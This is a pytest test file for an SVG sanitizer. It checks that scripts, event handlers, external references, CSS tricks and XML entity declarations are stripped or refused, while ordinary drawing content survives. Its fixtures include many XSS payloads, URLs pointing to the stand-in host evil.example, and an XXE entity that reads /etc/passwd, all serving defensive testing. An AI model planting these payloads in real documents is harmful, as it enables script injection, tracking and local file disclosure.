"""SVG: what comes out draws as before and can neither act nor reach out, whatever came in."""

import re
import time
from xml.etree import ElementTree

import pytest

from heliograph.imaging.vectors import DEEPEST, XLINK, NoVector, cleaned

HEAD = '<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="30" height="20">'
RED = '<rect x="5" y="5" width="20" height="10" fill="#f00"/>'


MANY = 100_000


def clean(inside: str) -> str:
    text = cleaned(f"{HEAD}{inside}{RED}</svg>".encode()).decode()
    ElementTree.fromstring(text)  # it must be well-formed
    assert 'fill="#f00"' in text
    return text


HOSTILE = {
    "script": "<script>alert(1)</script>",
    "script in another case of its namespace": '<x:script xmlns:x="http://www.w3.org/2000/svg">alert(1)</x:script>',
    "script of XHTML": '<script xmlns="http://www.w3.org/1999/xhtml">alert(1)</script>',
    "script from elsewhere": '<script xlink:href="https://evil.example/x.js"/>',
    "handler": '<rect onload="alert(1)" onclick="alert(1)" ONMOUSEOVER="alert(1)"/>',
    "page inside": '<foreignObject><body xmlns="http://www.w3.org/1999/xhtml"><img src="x" onerror="alert(1)"/></body>'
    "</foreignObject>",
    "frame": '<iframe xmlns="http://www.w3.org/1999/xhtml" src="https://evil.example/"/>',
    "link that acts": '<a xlink:href="javascript:alert(1)"><text>click</text></a>',
    "link elsewhere": '<a href="https://evil.example/"><text>click</text></a>',
    "address set by an animation": '<animate attributeName="href" values="javascript:alert(1)"/>',
    "address set at once": '<set attributeName="onmouseover" to="alert(1)"/>',
    "handler in SVG": '<handler xmlns:ev="http://www.w3.org/2001/xml-events" ev:event="load">alert(1)</handler>',
    "picture from elsewhere": '<image href="https://evil.example/spy.png" width="1" height="1"/>',
    "picture that is an SVG": '<image xlink:href="data:image/svg+xml;base64,PHN2Zy8+" width="1" height="1"/>',
    "picture that is a page": '<image xlink:href="data:text/html,alert(1)" width="1" height="1"/>',
    "shape from elsewhere": '<use xlink:href="https://evil.example/x.svg#a"/>',
    "shape of data": '<use href="data:image/svg+xml;base64,PHN2Zy8+#a"/>',
    "filter from elsewhere": '<feImage xlink:href="https://evil.example/x.png"/>',
    "fill from elsewhere": '<rect fill="url(https://evil.example/x.svg#a)"/>',
    "fill from elsewhere in quotes": "<rect fill=\"url('//evil.example/x.svg#a')\"/>",
    "style from elsewhere": '<rect style="fill:url(https://evil.example/x.svg#a)"/>',
    "style with escapes": r'<rect style="fill:\75 rl(https://evil.example/x.svg#a)"/>',
    "style with a comment": '<rect style="fill:u/**/rl(https://evil.example/x.svg#a)"/>',
    "style that is unfinished": '<rect style="fill:url(https://evil.example/x"/>',
    "style that computes": '<rect style="width:expression(alert(1))"/>',
    "sheet that imports": "<style>@import 'https://evil.example/x.css';</style>",
    "sheet that imports by url": "<style>@import url(https://evil.example/x.css);</style>",
    "sheet with a font": "<style>@font-face{font-family:x;src:url(https://evil.example/x.woff)}</style>",
    "sheet with a picture": "<style>rect{mask-image:image-set('https://evil.example/x.png' 1x)}</style>",
    "sheet whose parts meet": "<style>rect{fill:u@import x;rl(https://evil.example/x)}</style>",
    "sheet with escapes": r"<style>@\69mport 'https://evil.example/x.css';</style>",
    "sheet that closes itself": "<style>&lt;/style&gt;&lt;script&gt;alert(1)&lt;/script&gt;</style>",
    "sheet by a processing instruction": "<?xml-stylesheet href='https://evil.example/x.css'?>",
    "sheet whose braces do not fit": "<style>} @import url(//evil.example); @x {}} a{b:url(//evil.example)}</style>",
    "sheet with a comment in a text": "<style>a{b:'/*'} @import 'https://evil.example/x.css'; c{d:'*/'}</style>",
    "sheet whose own address joins others": "<style>a{fill:u url(#a)rl(https://evil.example/x)}</style>",
    "sheet with a binding": "<style>a{-moz-binding:url('https://evil.example/x.xml#a')}</style>",
    "address in another prefix": f'<use xmlns:y="{XLINK}" y:HREF="//evil.example" y:href="//evil.example/a#b"/>',
    "address with a blank before it": '<image href=" &#9;https://evil.example/x.png"/>',
    "address written by numbers": '<image href="&#x6a;avascript:alert(1)"/>',
    "handler in a namespace": '<rect xmlns:s="http://www.w3.org/2000/svg" s:onload="alert(1)"/>',
    "cursor from elsewhere": '<rect style="cursor:url(https://evil.example/x.cur)" cursor="url(https://evil.example/x)"/>',
    "text that is markup": "<text><![CDATA[<script>alert(1)</script>]]></text>",
    "base of addresses": '<g xml:base="https://evil.example/"/>',
    "words of others": '<metadata><r:RDF xmlns:r="http://www.w3.org/1999/02/22-rdf-syntax-ns#">alert(1)</r:RDF></metadata>',
}


@pytest.mark.parametrize("kind", HOSTILE)
def test_nothing_that_acts_or_reaches_out_is_left(kind: str) -> None:
    text = clean(HOSTILE[kind]).replace("&lt;script&gt;alert(1)&lt;/script&gt;", "")
    assert not re.search(r"alert\(|evil\.example|javascript|<script|\son\w+=|foreignObject|<!|<\?", text, re.IGNORECASE)


@pytest.mark.parametrize(
    "document",
    [
        b"",
        b"words",
        b"<svg",
        HEAD.encode(),
        b"<html xmlns='http://www.w3.org/1999/xhtml'/>",
        b"<svg/>",
        b"<!DOCTYPE svg [<!ENTITY a 'aaaa'>]>" + f"{HEAD}&a;</svg>".encode(),
        b"<!DOCTYPE svg [<!ENTITY a SYSTEM 'file:///etc/passwd'>]>" + f"{HEAD}<text>&a;</text></svg>".encode(),
        b"<!DOCTYPE svg [<!ATTLIST rect onload CDATA 'alert(1)'>]>" + f"{HEAD}{RED}</svg>".encode(),
        f"{HEAD}<text>&unknown;</text></svg>".encode(),
        f"<?xml version='1.0' encoding='utf-16'?>{HEAD}\xff</svg>".encode("latin-1"),
        f"{HEAD}{RED}</svg>".encode("utf-7").replace(b"<", b"+ADw-"),
    ],
)
def test_what_is_no_svg_or_declares_things_is_refused(document: bytes) -> None:
    with pytest.raises(NoVector):
        cleaned(document)


def test_an_svg_in_another_encoding_is_cleaned_as_what_it_is_read_as() -> None:
    hostile = f"{HEAD}<script>alert(1)</script>{RED}</svg>"
    assert cleaned(hostile.encode("utf-16")) == cleaned(hostile.encode()) == cleaned(f"{HEAD}{RED}</svg>".encode())


def test_a_document_type_may_be_named_and_is_never_read() -> None:
    named = (
        b'<?xml version="1.0" standalone="no"?><!DOCTYPE svg PUBLIC "-//W3C//DTD SVG 1.1//EN" "http://evil.example/x">'
    )
    assert b"evil" not in cleaned(named + f"{HEAD}{RED}</svg>".encode())


def test_what_draws_stays() -> None:
    inside = (
        '<defs><linearGradient id="g"><stop offset="0" stop-color="rgb(1, 2, 3)"/></linearGradient>'
        '<clipPath id="c"><rect width="3" height="3"/></clipPath></defs>'
        '<style type="text/css">/* all */ .a &gt; .b { fill: url(#g); stroke: none }</style>'
        '<g clip-path="url(#c)" transform="translate(1,2)"><path d="M0 0L3 3z" style="stroke-width:2; fill:none"/></g>'
        '<use xlink:href="#c"/><text x="1" font-family="\'A B\', serif">a &amp; b<tspan dy="1">&lt;c&gt;</tspan></text>'
        '<image xlink:href="data:image/png;base64,iVBORw0KGgo=" width="1" height="1"/>'
    )
    text = clean(inside)
    for kept in (
        'stop-color="rgb(1, 2, 3)"', ".a &gt; .b { fill: url(#g); stroke: none }", 'clip-path="url(#c)"',
        'style="stroke-width:2; fill:none"', 'xlink:href="#c"', "a &amp; b", "&lt;c&gt;", "data:image/png;base64,iVBOR",
    ):  # fmt: skip
        assert kept in text
    assert "all" not in text


def test_what_is_in_a_link_stays_without_the_link() -> None:
    text = clean('<a xlink:href="https://evil.example/"><circle r="3"/></a>')
    assert "<circle" in text
    assert "<a" not in text


def test_what_was_cleaned_stays_the_same_when_it_is_cleaned_again() -> None:
    once = clean("<style>.a{fill:red}</style><text> a\n b </text><g fill='&#10;x'/>").encode()
    assert cleaned(once) == once


def test_elements_that_are_too_deep_are_left_out() -> None:
    text = clean("<g>" * 10_000 + "</g>" * 10_000)
    assert text.count("<g>") == DEEPEST - 1


@pytest.mark.parametrize(
    "inside",
    [
        "<style>" + "a" * MANY + "</style>",
        "<style>a" + " " * MANY + "b</style>",
        "<style>@" + "a" * MANY + "</style>",
        "<style>" + "@a" * MANY + "</style>",
        "<style>" + "@a{" * MANY + "</style>",
        "<style>" + "/*" * MANY + "</style>",
        "<style>" + "url(" * MANY + "</style>",
        "<style>" + "url(#a " * MANY + "</style>",
        f"<rect fill='{'a' * MANY}'/>",
        f"<rect fill='{'(' * MANY}'/>",
        f"<use href='#{'a' * MANY}('/>",
        f"<image href='data:image/png;base64,{' ' * MANY}('/>",
    ],
)
def test_what_is_made_to_be_slow_is_read_in_less_than_two_seconds(inside: str) -> None:
    begun = time.process_time()
    clean(inside)
    assert time.process_time() - begun < 2


def test_rules_that_begin_with_at_go_and_those_around_them_stay() -> None:
    text = clean(
        "<style>@charset 'utf-8';.a{fill:red}@media print{.b{fill:blue}.c{x:y}}/* ; */.d{fill:green}"
        "@supports (a:b){@media screen{.e{x:y}}}.f{fill:teal}/*c*/*{stroke:none}/* no end</style>"
    )
    assert '<style type="text/css">.a{fill:red}.d{fill:green}.f{fill:teal}*{stroke:none}</style>' in text
